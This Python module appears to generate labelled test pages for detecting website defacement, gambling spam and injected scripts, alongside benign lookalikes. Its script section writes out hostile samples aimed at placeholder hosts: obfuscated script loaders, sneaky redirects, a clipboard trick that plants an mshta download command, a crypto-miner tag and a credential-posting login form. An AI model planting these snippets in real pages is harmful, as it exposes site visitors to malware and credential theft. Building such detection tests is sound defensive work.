"""All hard cases: every attack in several surroundings, every peaceful page that looks like one."""

# ruff: noqa: E501 — markup as it is sent, one piece a line
from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count

from hardset.around import OFFICES, TEMPLATES
from hardset.attacks import (
    BARE,
    CLAIMS,
    HIDING,
    LOOKS,
    MESSAGES,
    NOTES,
    SCRIPT_HOSTS,
    SPAM,
    STYLED,
    TINY,
    WRITERS,
    XSS,
    shells,
)
from hardset.peaceful import GAMBLING_NEWS, HACK_NEWS, PIECES, SMALL, STUBS


@dataclass(frozen=True, slots=True)
class Case:
    """One page. `label` is "deface", "spam", "script", "redirect" or "benign"; `kind` says which trick or trap."""

    name: str
    label: str
    kind: str
    lang: str
    url: str
    body: bytes


_OF = dict(zip(("vi", "en", "id", "tr", "pt", "es", "ar", "fa", "zh", "ru"), OFFICES.values(), strict=True))
_HOME = {"fr": "en", "de": "en", "th": "vi", "ko": "zh", "ja": "vi"}


def _around(lang: str, turn: int, title: str, main: str, **places: str) -> tuple[str, str]:
    """(address, page): an office's page in that language, the templates in turn."""
    one = _OF[_HOME.get(lang, lang)]
    return f"https://{one.host}/p/{turn}", TEMPLATES[turn % 3](one, title, main, **places)


def cases() -> Iterator[Case]:
    """Every case, in the same order each time."""
    numbers = count()
    for maker in (_whole, _inside, _spam, _scripts, _stubs, _reports, _traps):
        for label, kind, lang, url, body in maker():
            data = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
            yield Case(f"{next(numbers):04d}-{label}-{kind}-{lang}", label, kind, lang, url, data)


_Row = tuple[str, str, str, str, "str | bytes"]


def _whole() -> Iterator[_Row]:
    turn = 0
    for lang, claims in CLAIMS.items():
        host = f"https://{_OF[_HOME.get(lang, lang)].host}/"
        for claim in claims:
            note = NOTES[lang][turn % len(NOTES[lang])]
            for look in (LOOKS[turn % len(LOOKS)], LOOKS[(turn + 2) % len(LOOKS)]):
                yield "deface", "claim", lang, host, look.format(title=claim, claim=claim, note=note)
            turn += 1
            untitled = LOOKS[turn % 3].format(title=f"~ {turn} ~", claim=claim, note=note)
            yield "deface", "claim-untitled", lang, host, untitled
    for style, restyle in STYLED.items():
        for claim in ("Hacked by NightHeron", "Defaced by Red Lantern", "You have been hacked by Sunny"):
            yield (
                "deface",
                f"styled-{style}",
                "en",
                "",
                LOOKS[turn % 5].format(title=restyle(claim), claim=restyle(claim), note=""),
            )
            turn += 1
    for kind, body in MESSAGES:
        yield "deface", f"message-{kind}", "", "", body
    for body in TINY:
        yield "deface", "tiny", "", "", body
    for body in BARE:
        yield "deface", "bare", "", "", body
    for body in shells():
        yield "deface", "shell", "en", "", body
    for head in (b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0\x00\x10JFIF", b"GIF89a", b"RIFF\x24\x00\x00\x00WEBPVP8 "):
        yield "deface", "image-bytes", "", "", head + bytes(range(256)) * 20
    for way, write in WRITERS.items():
        for look in (LOOKS[0], LOOKS[4]):
            inner = look.format(
                title="Hacked by Owl", claim="Hacked by Owl - you got owned", note="greetz all"
            ).replace("'", "")
            yield "deface", f"written-{way}", "en", "", f"<html><body><script>{write(inner)}</script></body></html>"
    for text in ("Hacked by Owl", "Website nay da bi hack boi Cu Meo", "Diretas oleh Burung Hantu"):
        typed = (
            f"<body bgcolor=black><div id=t></div><script>var L=['Hello admin','{text}','patch it'];type(L,0)</script>"
        )
        yield "deface", "typed", "", "", typed
        letters = f"<body bgcolor=black><h1 id=h></h1><script>h.innerText=`{text}`;</script>"
        yield "deface", "typed", "", "", letters
        cut = "+".join(f'"{text[n : n + 4]}"' for n in range(0, len(text), 4))
        yield "deface", "typed", "", "", f"<title>x</title><script>document.title={cut};document.write({cut})</script>"


def _inside() -> Iterator[_Row]:
    """A claim within a genuine page: overlay, title, headline, news item, marquee."""
    turn = 0
    for lang, claims in CLAIMS.items():
        for claim in claims[:2]:
            cover = (f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#000;z-index:99999;color:red">'
                     f"<center><h1>{claim}</h1>{NOTES[lang][0]}</center></div>")  # fmt: skip
            yield "deface", "overlay", lang, *_around(lang, turn, "Portal", "", end=cover)
            yield "deface", "title", lang, *_around(lang, turn + 1, claim, "", heading="Portal")
            yield "deface", "headline", lang, *_around(lang, turn + 2, "Portal", f"<h1>{claim}</h1>", heading="-")
            yield (
                "deface",
                "marquee",
                lang,
                *_around(lang, turn, "Portal", f"<marquee><font color=red>{claim}</font></marquee>"),
            )
            yield "deface", "item", lang, *_around(lang, turn + 1, "Portal", f"<h2><a href=/n/99>{claim}</a></h2>")
            turn += 1


def _links(hosts: tuple[str, ...], texts: tuple[str, ...]) -> str:
    return " ".join(f'<a href="https://{host}/">{text}</a>' for host, text in zip(hosts, texts * 3, strict=False))


_FAR = ("kb-vn1.example", "bet-top.example.net", "lucky-88.example.org", "a1slot.example.com")


def _spam() -> Iterator[_Row]:
    turn = 0
    for kind, lang, title, text, anchors in SPAM:
        links = _links(_FAR, anchors)
        for hide in (HIDING[turn % len(HIDING)], HIDING[(turn + 7) % len(HIDING)], HIDING[(turn + 12) % len(HIDING)]):
            home = "vi" if turn % 2 else lang
            yield "spam", f"hidden-{kind}", lang, *_around(home, turn, "Portal", "", end=hide.format(links))
            turn += 1
        article = f"<h2>{title}</h2><p>{text}</p><p>{text[::1]} {links}</p>"
        yield "spam", f"article-{kind}", lang, *_around("vi", turn, title, article)
        yield "spam", f"article-{kind}", lang, *_around(lang, turn + 1, title, article)
        alone = f"<html lang={lang}><head><title>{title}</title><meta name=description content='{text}'></head><body>"
        yield (
            "spam",
            f"doorway-{kind}",
            lang,
            "https://sonoivu.thuchanh.gov.vn/x.php?p=9",
            (
                f"{alone}<h1>{title}</h1><div class=price>Rp 10.000 ★★★★★ 4.9</div><p>{text}</p><a href=/?d=1>{anchors[0]}</a>"
                f"<a class=btn href=https://go.example.top/x>DAFTAR / LOGIN</a></body></html>"
            ),
        )
        swapped = f"<meta name=keywords content='{anchors[0]},{title}'><meta name=description content='{text}'>"
        entities = "".join(f"&#{ord(char)};" for char in title)
        yield (
            "spam",
            f"title-{kind}",
            lang,
            *_around("zh" if lang == "zh" else "vi", turn, entities, "", head=swapped, heading="-"),
        )
    amp = ("<!doctype html><html amp lang=id><head><title>{0}</title><link rel=canonical href=https://dinkes.latihan.go.id/?pafi=x>"
           "<link rel=amphtml href=https://amp-cepat.example.cfd/><style amp-custom>.btn{{background:red}}</style></head><body>"
           "<h1>{0}</h1><img src=https://i.ibb.co/1/banner.webp><a class=btn href=https://short.example/l>LOGIN</a>"
           "<a href=https://short.example/d>DAFTAR</a><p>{1}</p></body></html>")  # fmt: skip
    for kind, lang, title, text, _ in SPAM[3:5]:
        yield "spam", f"amp-{kind}", lang, "https://dinkes.latihan.go.id/?pafi=x", amp.format(title, text)
        brand = (
            '<script type=application/ld+json>{"@type":"Product","name":"'
            + title
            + '","offers":{"price":"5"}}</script>'
        )
        yield "spam", f"shop-{kind}", lang, *_around(lang, 2, f"{title} - Lazada", f"<p>{text}</p>", head=brand)


def _scripts() -> Iterator[_Row]:
    langs = list(_OF)
    for turn, piece in enumerate(XSS):
        lang = langs[turn % len(langs)]
        yield "script", "xss-title", lang, *_around(lang, turn, f"Portal {piece}", "", heading="Portal")
        yield (
            "script",
            "xss-menu",
            lang,
            *_around(lang, turn + 1, "Portal", f"<ul><li><a href=/x>Menu {piece}</a></li></ul>"),
        )
        yield (
            "script",
            "xss-comment",
            lang,
            *_around(lang, turn + 2, "Portal", f"<div class=comment><p>hi {piece}</p></div>"),
        )
    for turn, host in enumerate(SCRIPT_HOSTS):
        lang = langs[turn % len(langs)]
        tag = f'<script type="text/javascript" src="{host}"></script>'
        yield "script", "src-head", lang, *_around(lang, turn, "Portal", "", head=tag)
        yield "script", "src-end", lang, *_around(lang, turn + 1, "Portal", "", end=f"{tag}")
        url, page = _around(lang, turn + 2, "Portal", "")
        yield "script", "src-before", lang, url, f"{tag}{page}"
        yield "script", "src-after", lang, url, f"{page}\n{tag}"
        yield (
            "script",
            "src-often",
            lang,
            *_around(lang, turn, "Portal", f"<p>a{tag}</p><h3>b{tag}</h3><li>c{tag}</li>"),
        )
    inject = "var s=document.createElement('script');s.src='//cdn-stat.example.top/a.js';document.head.appendChild(s)"
    jump = "location.href='https://kubet-vn.example.vip/'"
    for way in ("unescape", "atob", "codes", "xor", "hex", "two-layers", "eval-percent"):
        for turn, text in enumerate(
            (f"<script>{inject}</script>", f"<script>{jump}</script>", "<iframe src=//x.example.top width=1>")
        ):
            safe = text.replace("'", "`") if way in ("two-layers", "eval-percent", "hex") else text
            lang = langs[(turn + len(way)) % len(langs)]
            yield (
                "script",
                f"loader-{way}",
                lang,
                *_around(lang, turn, "Portal", "", end=f"<script>{WRITERS[way](safe)}</script>"),
            )
    targets = (
        "https://kubet88.example/",
        "https://nohu90-vip.example.net/?ref=7",
        "https://xoilac-tv.example.top/",
        "//a1b2c3.example.icu/",
    )
    for turn, target in enumerate(targets):
        lang = langs[turn]
        refresh, hop = (
            f'<meta http-equiv="refresh" content="0;url={target}">',
            f"<script>window.location.href='{target}'</script>",
        )
        yield "redirect", "refresh-alone", "", "https://a.gov.vn/", refresh
        yield "redirect", "hop-alone", "", "https://a.gov.vn/", hop
        yield "redirect", "refresh-inside", lang, *_around(lang, turn, "Portal", "", head=refresh)
        yield (
            "redirect",
            "hop-referrer",
            lang,
            *_around(
                lang,
                turn,
                "Portal",
                "",
                head=f"<script>if(document.referrer.match(/google|bing|coccoc/i)){{location.replace('{target}')}}</script>",
            ),
        )
        phone = f"<script>if(/Android|iPhone/i.test(navigator.userAgent)){{window.location='{target}'}}</script>"
        yield "redirect", "hop-phone", lang, *_around(lang, turn, "Portal", "", head=phone)
        full = f"<iframe src='{target}' style='position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:9999'></iframe>"
        yield "redirect", "frame-over", lang, *_around(lang, turn, "Portal", full)
        yield "redirect", "frame-alone", "", "https://a.gov.vn/", f"<html><body style='margin:0'>{full}</body></html>"
        yield "redirect", "base", lang, *_around(lang, turn, "Portal", "", head=f"<base href='{target}'>")
    fake = ("<div style='position:fixed;inset:0;background:#fff;z-index:99999'><h2>Verify you are human</h2><p>Press Win + R, then "
            "Ctrl + V and Enter</p></div><script>navigator.clipboard.writeText('mshta https://x.example.top/v.hta')</script>")  # fmt: skip
    for lang in ("vi", "en", "ru"):
        yield "script", "fake-check", lang, *_around(lang, 1, "Portal", "", end=fake)
    yield (
        "script",
        "miner",
        "en",
        *_around("en", 0, "Portal", "", end="<script src=https://coinhive.com/lib/coinhive.min.js></script>"),
    )
    login = (
        "<form action='https://collect.example.top/p.php' method=post><input name=u><input type=password name=p></form>"
    )
    yield "script", "form", "vi", *_around("vi", 1, "Đăng nhập", login)


def _stubs() -> Iterator[_Row]:
    for kind, body in STUBS:
        yield "benign", f"stub-{kind}", "", "https://sonoivu.thuchanh.gov.vn/", body


def _reports() -> Iterator[_Row]:
    turn = 0
    for family, table in (("hack-news", HACK_NEWS), ("gambling-news", GAMBLING_NEWS)):
        for lang, articles in table.items():
            one = _OF[lang]
            for title, text in articles:
                for template in range(3):
                    yield "benign", family, lang, *_around(lang, template, title, f"<p>{text}</p><p>{text}</p>")
                listed = "".join(f"<li><a href=/n/{n}>{name}</a></li>" for n, (name, _) in enumerate(articles))
                yield (
                    "benign",
                    f"{family}-list",
                    lang,
                    *_around(lang, turn, "Portal", f"<marquee>{title}</marquee><ul>{listed}</ul>"),
                )
                for small in SMALL:
                    body = small.format(title=title, text=text, more=" ".join(one.text), lang=lang, host=one.host)
                    yield "benign", f"{family}-small", lang, f"https://{one.host}/n", body
                turn += 1


def _traps() -> Iterator[_Row]:
    for turn, (kind, piece) in enumerate(PIECES):
        for lang in ("vi", "en", "id", "zh"):
            yield "benign", f"piece-{kind}", lang, *_around(lang, turn, "Portal", piece)
    for lang, one in _OF.items():
        for template in range(3):
            for news in one.news[:2]:
                yield "benign", "ordinary", lang, *_around(lang, template, news, "")
